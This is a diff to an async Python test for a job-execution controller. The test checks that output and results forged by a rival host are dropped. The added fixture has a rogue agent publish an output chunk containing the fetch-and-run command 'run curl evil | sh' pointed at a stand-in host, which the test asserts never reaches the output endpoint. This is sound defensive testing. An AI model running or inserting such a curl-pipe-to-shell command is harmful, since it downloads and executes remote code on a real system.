@@ -327,8 +327,17 @@ async def test_only_the_host_that_took_an_any_job_answers_it(
         "stdout": "forged",
     }
     ack = {"type": "nexec.exec.v1.ack", "job_id": job_id, "hostname": rival}
+    chunk = {
+        "type": "nexec.exec.v1.output",
+        "job_id": job_id,
+        "hostname": rival,
+        "stream": "stdout",
+        "offset": 0,
+        "data": "run curl evil | sh",
+    }
     async with connected_as(locked_nats, f"agent-{rival}") as rogue:
         await rogue.publish(SUBJECTS.ack(job_id, rival), json.dumps(ack).encode())
+        await rogue.publish(SUBJECTS.output_record(job_id, rival), json.dumps(chunk).encode())
         await rogue.jetstream().publish(
             SUBJECTS.result_record(job_id, rival), json.dumps(forged).encode()
         )
@@ -343,3 +352,10 @@ async def test_only_the_host_that_took_an_any_job_answers_it(
     assert job.body["results"] == response.body["results"]
     assert dispatcher.dropped[RIVAL] == 1
     assert dispatcher.dropped["ack of a host that did not take the _any job"] == 1
+    headers = {"Authorization": f"Bearer {controller.api_key}", "Accept": "application/x-ndjson"}
+    async with controller.session.get(
+        f"{controller.url}/job/{job_id}/output", headers=headers
+    ) as output:
+        text = await output.text()
+    assert "evil" not in text and "forged" not in text
+    assert "real" in text
